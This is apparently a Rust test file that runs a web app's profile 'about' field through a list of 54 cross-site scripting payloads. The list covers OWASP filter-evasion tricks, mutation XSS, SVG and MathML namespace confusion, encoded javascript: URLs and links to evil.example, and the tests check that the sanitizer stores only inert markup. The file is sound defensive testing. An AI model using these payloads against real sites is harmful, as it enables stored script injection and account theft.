//! Somebody writes script into what they say about themselves, so that it runs for whoever reads it: the classics of OWASP's filter
//! evasion cheat sheet, markup that changes its meaning when it is parsed again (mutation XSS), other namespaces, references, and nesting.

use crate::support::app::TestApp;
use regex::Regex;
use serde_json::json;
use std::sync::LazyLock;

const PAYLOADS: [&str; 54] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\"\\>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<b onclick=alert(1) onmouseover='alert(1)'>x</b>",
    "<p/onpointerenter=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\u{1}javascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='https:javascript:alert(1)' onclick=alert(1)>x</a>",
    "<a href=https:alert(1)>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='https:///evil.example'>x</a>",
    "<a href='https://example.org@evil.example/'>x</a>",
    "<a href='https://example.org\\@evil.example/'>x</a>",
    "<a href='https:&#10;//evil.example'>x</a>",
    "<a href=\"https://example.org/&quot; onclick=&quot;alert(1)\">x</a>",
    "<a href='https://example.org' target=_blank rel=opener ping=https://evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href=javascript:alert(1)//>",
    "<body onload=alert(1)><input autofocus onfocus=alert(1)><details open ontoggle=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<p><button><p><a href=https://a.example><table><td><a href=https://b.example><b>x",
];

/// What is left is text and elements of the list without attributes, but for links to `https://`, a host without a user, and `mailto:`.
fn is_inactive(html: &str) -> bool {
    static ELEMENT: LazyLock<Regex> = LazyLock::new(|| {
        let listed = r"/?(p|b|i|em|strong|ul|ol|li|blockquote|code|a)|br";
        Regex::new(&format!(r#"^({listed}|a( href="(https://[^/\\@"<>]+(/[^\\"<>]*)?|mailto:[^"<>]*)")? rel="noopener noreferrer nofollow ugc")$"#))
            .unwrap()
    });
    html.split('<').skip(1).all(|rest| rest.split_once('>').is_some_and(|(inside, _)| ELEMENT.is_match(inside)))
}

#[actix_web::test]
async fn no_active_content_is_stored() {
    let app = TestApp::start().await;
    let ada = app.member("ada@example.org").await;
    for (wrapped, payload) in PAYLOADS.iter().flat_map(|payload| {
        let nested = format!("<blockquote><ul><li>{payload}</li></ul><p>{payload}");
        [((*payload).to_owned(), payload), (nested, payload), (format!("{}{payload}", "<b><i>".repeat(50)), payload)]
    }) {
        let answer = ada.patch("/v1/me", json!({ "about": wrapped })).await;
        if answer.status == 422 {
            assert!(payload.contains("\u{1}") || payload.contains("&#14;"), "{wrapped}: {}", answer.text);
            continue;
        }
        assert_eq!(answer.status, 200, "{wrapped}: {}", answer.text);
        let stored = answer.json()["about"].as_str().unwrap().to_owned();
        assert!(is_inactive(&stored), "{wrapped}\nbecame {stored}");
        let again = ada.patch("/v1/me", json!({ "about": stored })).await.json();
        assert_eq!(again["about"], stored.as_str(), "cleaned twice: {wrapped}");
    }
    assert!(
        !is_inactive("<img src=x>") && !is_inactive("<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow ugc\">") && !is_inactive("<b x")
    );
}

#[actix_web::test]
async fn a_text_without_end_is_refused_and_changes_nothing() {
    let app = TestApp::start().await;
    let ada = app.member("ada@example.org").await;
    assert_eq!(ada.patch("/v1/me", json!({ "about": "<p>first</p>" })).await.status, 200);
    for about in ["x".repeat(8001), "&".repeat(3000), "\u{202e}".into(), "<p>\0</p>".into()] {
        let answer = ada.patch("/v1/me", json!({ "about": about })).await;
        assert_eq!((answer.status.as_u16(), answer.json()["error"]["fields"][0]["field"].as_str()), (422, Some("about")), "{about:.20}");
    }
    // deep and tangled, within the length: an answer all the same
    let distinct: String = (0..200).map(|n| format!("<b a{n}><p>")).collect();
    for about in ["<b>".repeat(2600), "<b>".repeat(400), "<blockquote>".repeat(400), "<a><p>".repeat(200), "<ul><li><b><p>".repeat(100), distinct] {
        let answer = ada.patch("/v1/me", json!({ "about": about })).await;
        assert!(matches!(answer.status.as_u16(), 200 | 422), "{about:.20}: {}", answer.text);
    }
    for nothing in [json!({}), json!({ "about": null }), json!({ "name": null, "about": "x" })] {
        assert_eq!(ada.patch("/v1/me", nothing.clone()).await.status, 422, "{nothing}");
    }
    assert_eq!(ada.patch("/v1/me", json!({ "about": "" })).await.json()["about"], "");
    assert_eq!(ada.get("/v1/me").await.json()["name"], "Ada", "what is left out stays");
}
